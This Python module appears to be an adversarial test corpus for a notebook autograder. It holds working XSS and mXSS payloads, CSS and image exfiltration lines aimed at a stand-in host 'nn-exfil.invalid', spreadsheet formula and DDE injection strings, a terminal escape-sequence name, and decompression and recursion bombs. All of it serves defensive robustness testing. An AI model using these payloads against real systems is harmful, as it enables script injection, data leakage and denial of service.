"""Batch attacks: submissions that target the class pipeline around the sandbox (collect,
autograde's records and pool, feedback, report, export) rather than the sandbox itself.

Each attack builds one student's submission or grading record in a course folder; the
harness (tests/nngrade/test_adversarial_batch.py) checks every batch command still finishes,
gives that student a status with a reason, and leaves everybody else's result unchanged.
"""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

# A secret line of the `adv` master's hidden tests, quoted inside honest prose.
HIDDEN_LINE = "follow.normal(size=3)"


@dataclass(frozen=True)
class FileAttack:
    """A per-student folder entry planted before `nngrade collect` / `autograde`."""

    name: str
    plant: Callable[[Path, Path], None]  # (the student's notebook path, the master) -> None
    why: str


def _symlink_master(path: Path, master: Path) -> None:
    path.symlink_to(master)


def _symlink_zero(path: Path, master: Path) -> None:
    path.symlink_to("/dev/zero")


def _fifo(path: Path, master: Path) -> None:
    os.mkfifo(path)


def _sparse_huge(path: Path, master: Path) -> None:
    with path.open("wb") as handle:  # 3 GB apparent size, no disk used
        handle.truncate(3 * 2**30)


def _folder_link(path: Path, master: Path) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(master.parent, target_is_directory=True)


FILE_ATTACKS = [
    FileAttack("link_to_master", _symlink_master, "imports the master through a symlink"),
    FileAttack("link_to_dev_zero", _symlink_zero, "floods collect and the grader"),
    FileAttack("fifo", _fifo, "blocks collect and the grader on open()"),
    FileAttack("sparse_3gb", _sparse_huge, "read whole by plan(): OOM"),
    FileAttack("folder_link", _folder_link, "the assignment folder links to the masters"),
]


@dataclass(frozen=True)
class RecordAttack:
    """A graded copy / record whose content targets feedback, report and export."""

    name: str
    edit: Callable[[nbformat.NotebookNode], None]
    reason: str = ""
    why: str = ""


def _surrogate(nb: nbformat.NotebookNode) -> None:
    nb.cells.append(nbformat.v4.new_markdown_cell("lone surrogate: \ud800 here"))


def _missing_attachment(nb: nbformat.NotebookNode) -> None:
    nb.cells.append(nbformat.v4.new_markdown_cell("![plot](attachment:missing.png)"))


def _raw_mimetype(nb: nbformat.NotebookNode) -> None:
    cell = nbformat.v4.new_raw_cell("raw text")
    cell.metadata["raw_mimetype"] = 5
    nb.cells.append(cell)


def _raw_mimetype_list(nb: nbformat.NotebookNode) -> None:
    cell = nbformat.v4.new_raw_cell("raw text")
    cell.metadata["raw_mimetype"] = ["text/html"]
    nb.cells.append(cell)


def _honest_mention(nb: nbformat.NotebookNode) -> None:
    nb.cells.append(
        nbformat.v4.new_markdown_cell(f"Like the tests, I call `{HIDDEN_LINE}` once more.")
    )


def _nothing(nb: nbformat.NotebookNode) -> None:
    return None


RECORD_ATTACKS = [
    RecordAttack("lone_surrogate", _surrogate, why="UnicodeEncodeError when the copy is written"),
    RecordAttack("missing_attachment", _missing_attachment, why="nbconvert raises: 0 pages"),
    RecordAttack("raw_mimetype_int", _raw_mimetype, why="nbconvert raises: 0 pages"),
    RecordAttack("raw_mimetype_list", _raw_mimetype_list, why="nbconvert raises: 0 pages"),
    RecordAttack("honest_mention", _honest_mention, why="the anti-leak guard aborted"),
    RecordAttack(
        "huge_reason", _nothing, reason="x" * 5_000_000, why="5 MB copied into every output"
    ),
    RecordAttack("surrogate_reason", _nothing, reason="bad \udfff byte", why="unencodable reason"),
]


# -- bombs for the grader's own rendering: feedback (nbconvert, mistune, Pygments,
# latex2mathml), report and export run on a graded copy holding them --------------------------
def _markdown(source) -> Callable[[nbformat.NotebookNode], None]:
    def edit(nb: nbformat.NotebookNode) -> None:
        nb.cells.append(nbformat.v4.new_markdown_cell(source))

    return edit


def _outputs(make: Callable[[], list[dict]]) -> Callable[[nbformat.NotebookNode], None]:
    """An edit adding a code cell with the outputs `make()` builds (when applied: some are
    large, and the corpus is imported by every adversarial test)."""

    def edit(nb: nbformat.NotebookNode) -> None:
        cell = nbformat.v4.new_code_cell("show()")
        cell.outputs = [nbformat.NotebookNode(o) for o in make()]  # shallow: json_deep
        nb.cells.append(cell)

    return edit


def _display(mime: str, value) -> dict:
    return {"output_type": "display_data", "data": {mime: value}, "metadata": {}}


def _png_bomb() -> str:
    """A valid PNG of 20,000 x 20,000 grey pixels: 400 MB decoded from ~400 KB."""
    import base64
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    side = 20_000
    compressor = zlib.compressobj(9)
    row = b"\0" * (side + 1)  # filter byte, then the row
    raw = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
    return base64.b64encode(png).decode()


def _code_1mb(nb: nbformat.NotebookNode) -> None:
    line = "x = [" + ", ".join(f"'{i}'" for i in range(30)) + "]  # \\u202e pad\n"
    nb.cells.append(nbformat.v4.new_code_cell(line * (2**20 // len(line))))


def _source_list(nb: nbformat.NotebookNode) -> None:
    cell = nbformat.v4.new_markdown_cell("")
    cell.source = ["x"] * 1_000_000  # as a notebook file may store it
    nb.cells.append(cell)


def _deep_json() -> list[dict]:
    value: dict = {}
    for _ in range(100_000):
        value = {"a": value}
    return [_display("application/json", value)]


def _deep_traceback() -> list[dict]:
    frames = [f'  File "<cell>", line {i}, in f\n    return f(x)' for i in range(100_000)]
    return [
        {
            "output_type": "error",
            "ename": "RecursionError",
            "evalue": "deep",
            "traceback": ["Traceback (most recent call last):", *frames],
        }
    ]


def _render_attacks() -> list[RecordAttack]:
    svg = "<svg xmlns='http://www.w3.org/2000/svg'>" + "<g>" * 100_000 + "</svg>"
    return [
        RecordAttack("md_nested_lists", _markdown("- " * 50_000 + "x"), why="recursion, time"),
        RecordAttack("md_nested_quotes", _markdown("> " * 100_000 + "x"), why="recursion"),
        RecordAttack("md_emphasis", _markdown("*a _b " * 30_000 + "**" * 30_000), why="time"),
        RecordAttack(
            "md_huge_table", _markdown("|a|b|c|\n|-|-|-|\n" + "|1|2|3|\n" * 200_000), why="rows"
        ),
        RecordAttack(
            "md_link_reference_flood",
            _markdown(
                "".join(f"[r{i}]: http://127.0.0.1/{i}\n" for i in range(50_000))
                + "[x][r1] " * 50_000
            ),
            why="definitions",
        ),
        RecordAttack("md_brackets", _markdown("[" * 100_000), why="mistune superlinear"),
        RecordAttack(
            "latex_nested_frac",
            _markdown("$" + "\\frac{1}{" * 10_000 + "x" + "}" * 10_000 + "$"),
            why="latex2mathml recursion",
        ),
        RecordAttack("latex_1mb", _markdown("$$" + "x^{2}+" * 170_000 + "1$$"), why="size"),
        RecordAttack("code_cell_1mb", _code_1mb, why="Pygments"),
        RecordAttack("source_list_1e6", _source_list, why="a million one-character strings"),
        RecordAttack(
            "display_data_1e4",
            _outputs(lambda: [_display("text/html", f"<b>{i}</b>") for i in range(10_000)]),
            why="output count",
        ),
        RecordAttack(
            "image_50mb",
            _outputs(lambda: [_display("image/png", "iVBORw0KGgo" + "A" * 50_000_000)]),
        ),
        RecordAttack(
            "png_decompression_bomb", _outputs(lambda: [_display("image/png", _png_bomb())])
        ),
        RecordAttack("svg_100k_elements", _outputs(lambda: [_display("image/svg+xml", svg)])),
        RecordAttack("json_deep", _outputs(_deep_json), why="recursion in json.dumps"),
        RecordAttack("traceback_100k_frames", _outputs(_deep_traceback)),
    ]


RENDER_ATTACKS = _render_attacks()


# Student ids (folder names, LMS user ids) that a spreadsheet would run as formulas.
FORMULA_IDS = [
    '=HYPERLINK("http://127.0.0.1/x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\tx",
    # read as formulas by some importers: after spaces or quotes they trim, full-width forms
    # some locales map to ASCII, zero-width characters, a DDE command line
    "  =1+1",
    '"=HYPERLINK(""http://127.0.0.1"")',
    '\uff1dHYPERLINK("http://127.0.0.1")',
    "\uff0bcmd",
    "\u200b=1+1",
    "\u3000@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\r=2+2",
]
# A name that would clear the instructor's terminal and set its title when printed.
TERMINAL_ID = "\x1b[2J\x1b]0;pwned\x07mallory"


# -- script in the instructor's browser ------------------------------------------------------
def _js(name: str) -> str:
    """JavaScript that records that it ran (no double quotes: it goes inside attributes)."""
    # `void(0)`: as a javascript: URL, a script with a value would replace the whole document
    return f"(top.__nn_ran=top.__nn_ran||[]).push('{name}');top.document.title='pwned';void(0)"


@dataclass(frozen=True)
class PageAttack:
    """Student content that tries to run script where a feedback page is read.

    `where` is "markdown" (a Markdown cell's source), "metadata" (the notebook's title) or
    a MIME type (an output of a code cell with that data). `click`: an element id the
    browser test clicks (links and buttons run only when clicked).
    """

    name: str
    where: str
    content: str
    click: str = ""


def _page_attacks() -> list[PageAttack]:
    j = _js
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10' onload=\"{0}\">"
        "<script>{1}</script><rect width='10' height='10'/></svg>"
    )
    return [
        PageAttack("md_script", "markdown", f"<script>{j('md_script')}</script>"),
        PageAttack("md_svg_onload", "markdown", f'<svg onload="{j("md_svg_onload")}"></svg>'),
        PageAttack("md_img_onerror", "markdown", f'<img src="x" onerror="{j("md_img_onerror")}">'),
        PageAttack(
            "md_javascript_link",
            "markdown",
            f'<a id="nn-jslink" href="javascript:{j("md_javascript_link")}">link</a>',
            click="nn-jslink",
        ),
        PageAttack(
            "md_markdown_js_link",
            "markdown",
            f"[a link](javascript:{j('md_markdown_js_link')}) and ![img](javascript:void(0))",
        ),
        PageAttack(
            "md_iframe_srcdoc",
            "markdown",
            f'<iframe srcdoc="<script>{j("md_iframe_srcdoc")}</script>"></iframe>',
        ),
        PageAttack(
            "md_object_data",
            "markdown",
            f'<object data="data:text/html,<script>{j("md_object_data")}</script>"></object>',
        ),
        PageAttack(
            "md_details_ontoggle",
            "markdown",
            f'<details open ontoggle="{j("md_details_ontoggle")}"><summary>s</summary></details>',
        ),
        PageAttack(
            "md_autofocus",
            "markdown",
            f'<input autofocus onfocus="{j("md_autofocus")}">',
        ),
        PageAttack(
            "md_body_onload",
            "markdown",
            f'<body onload="{j("md_body_onload")}"><p>x</p>',
        ),
        PageAttack(
            "md_noscript_mxss",
            "markdown",
            f'<noscript><p title="</noscript><img src=x onerror={j("md_noscript_mxss")}>">',
        ),
        PageAttack(
            "md_form_button",
            "markdown",
            f'<form><button id="nn-button" formaction="javascript:{j("md_form_button")}">'
            "b</button></form>",
            click="nn-button",
        ),
        PageAttack(
            "md_meta_refresh",
            "markdown",
            f'<meta http-equiv="refresh" content="0;url=javascript:{j("md_meta_refresh")}">',
        ),
        PageAttack(
            "md_closing_tags",
            "markdown",
            f"</div></main></body></html><script>{j('md_closing_tags')}</script>",
        ),
        PageAttack("html_script", "text/html", f"<script>{j('html_script')}</script>"),
        PageAttack(
            "html_img_onerror", "text/html", f'<img src="x" onerror="{j("html_img_onerror")}">'
        ),
        PageAttack(
            "html_svg_inline",
            "text/html",
            svg.format(j("html_svg_inline"), j("html_svg_inline_script")),
        ),
        PageAttack(
            "svg_output",
            "image/svg+xml",
            svg.format(j("svg_output"), j("svg_output_script")),
        ),
        PageAttack("javascript_output", "application/javascript", j("javascript_output")),
        PageAttack(
            "markdown_output", "text/markdown", f'<img src=x onerror="{j("markdown_output")}">'
        ),
        PageAttack(
            "png_attribute_injection",
            "image/png",
            f'iVBORw0KGgo=" onerror="{j("png_attribute_injection")}',
        ),
        PageAttack(
            "latex_output",
            "text/latex",
            f'$x$</math><img src=x onerror="{j("latex_output")}">',
        ),
        PageAttack("title", "metadata", f"</title><script>{j('title')}</script>"),
        *_more_page_attacks(),
        # last: in an unprotected page its <style> swallows everything after it
        PageAttack(
            "md_mxss_math",
            "markdown",
            f'<math><mtext><table><mglyph><style><img src=x onerror="{j("md_mxss_math")}">',
        ),
    ]


# A host no request may reach: exfiltration payloads (CSS, images, links) name it; the
# browser test records every request for it (it never resolves: the test blocks all hosts).
EXFIL_HOST = "nn-exfil.invalid"


def exfil(name: str) -> str:
    """The URL a payload would load to tell the attacker the page was opened (and by whom)."""
    return f"http://{EXFIL_HOST}/{name}"


def _more_page_attacks() -> list[PageAttack]:
    """The second round (issue 13's held-out classes): CSS and resource exfiltration, `<base>`,
    encoded `javascript:`, SVG/MathML links and animations, srcset, mXSS in `<template>` and
    nested `<noscript>`, `data:text/html` and `vbscript:` links."""
    j, x = _js, exfil
    return [
        PageAttack(
            "md_style_exfil",
            "markdown",
            f"<style>body{{background:url({x('md_style_exfil')})}}</style>",
        ),
        PageAttack(
            "md_style_import", "markdown", f"<style>@import url({x('md_style_import')});</style>"
        ),
        PageAttack(
            "md_style_attribute",
            "markdown",
            f'<p style="background:url({x("md_style_attribute")})">s</p>',
        ),
        PageAttack(
            "md_link_stylesheet",
            "markdown",
            f'<link rel="stylesheet" href="{x("md_link_stylesheet")}">',
        ),
        PageAttack("md_img_remote", "markdown", f"![pixel]({x('md_img_remote')})"),
        PageAttack(
            "md_img_srcset",
            "markdown",
            f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="{x("md_img_srcset")} 1x">',  # noqa: E501
        ),
        PageAttack(
            "md_video_poster", "markdown", f'<video poster="{x("md_video_poster")}"></video>'
        ),
        PageAttack(
            "md_base_href",
            "markdown",
            f'<base href="{x("md_base_href")}/"><img src="relative.png">',
        ),
        PageAttack(
            "md_entity_javascript",
            "markdown",
            f'<a id="nn-entity" href="&#106;avascript&#58;{j("md_entity_javascript")}">e</a>',
            click="nn-entity",
        ),
        PageAttack(
            "md_tab_javascript",
            "markdown",
            f'<a id="nn-tabjs" href="java&#x09;script:{j("md_tab_javascript")}">t</a>',
            click="nn-tabjs",
        ),
        PageAttack(
            "md_data_html_link",
            "markdown",
            f'<a id="nn-datahtml" href="data:text/html,&lt;script&gt;{j("md_data_html_link")}&lt;/script&gt;">d</a>',  # noqa: E501
            click="nn-datahtml",
        ),
        PageAttack(
            "md_vbscript_link",
            "markdown",
            '<a id="nn-vbs" href="vbscript:msgbox(1)">v</a>',
            click="nn-vbs",
        ),
        PageAttack(
            "md_form_action_js",
            "markdown",
            f'<form action="javascript:{j("md_form_action_js")}"><button id="nn-submit">s</button></form>',  # noqa: E501
            click="nn-submit",
        ),
        PageAttack(
            "md_svg_animate",
            "markdown",
            f'<svg><animate onbegin="{j("md_svg_animate")}" attributeName="x" dur="1s"/></svg>',
        ),
        PageAttack(
            "md_svg_set_href",
            "markdown",
            f'<svg><a id="nn-svgset"><set attributeName="href" to="javascript:{j("md_svg_set_href")}"/><text y="20">x</text></a></svg>',  # noqa: E501
            click="nn-svgset",
        ),
        PageAttack(
            "md_svg_use_href",
            "markdown",
            f"<svg><use href=\"data:image/svg+xml,&lt;svg id='u' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='{x('md_svg_use_href')}'/&gt;&lt;/svg&gt;#u\"/></svg>",  # noqa: E501
        ),
        PageAttack(
            "md_math_href",
            "markdown",
            f'<math><mtext id="nn-mathhref" href="javascript:{j("md_math_href")}">m</mtext></math>',
            click="nn-mathhref",
        ),
        PageAttack(
            "md_math_xlink",
            "markdown",
            f'<math xmlns:xlink="http://www.w3.org/1999/xlink"><mi id="nn-xlink" xlink:href="javascript:{j("md_math_xlink")}">x</mi></math>',  # noqa: E501
            click="nn-xlink",
        ),
        PageAttack(
            "md_template_mxss",
            "markdown",
            f'<template><img src=x onerror="{j("md_template_mxss")}"></template><p>t</p>',
        ),
        PageAttack(
            "md_nested_noscript",
            "markdown",
            f'<noscript><noscript></noscript><img src=x onerror="{j("md_nested_noscript")}"></noscript>',  # noqa: E501
        ),
        PageAttack(
            "md_marquee_onstart",
            "markdown",
            f'<marquee onstart="{j("md_marquee_onstart")}">m</marquee>',
        ),
        PageAttack(
            "md_svg_foreignobject",
            "markdown",
            f'<svg><foreignObject><img src=x onerror="{j("md_svg_foreignobject")}"></foreignObject></svg>',  # noqa: E501
        ),
        PageAttack(
            "html_style_output",
            "text/html",
            f"<style>*{{background:url({x('html_style_output')})}}</style>",
        ),
        PageAttack(
            "html_img_remote_output", "text/html", f'<img src="{x("html_img_remote_output")}">'
        ),
    ]


PAGE_ATTACKS = _page_attacks()
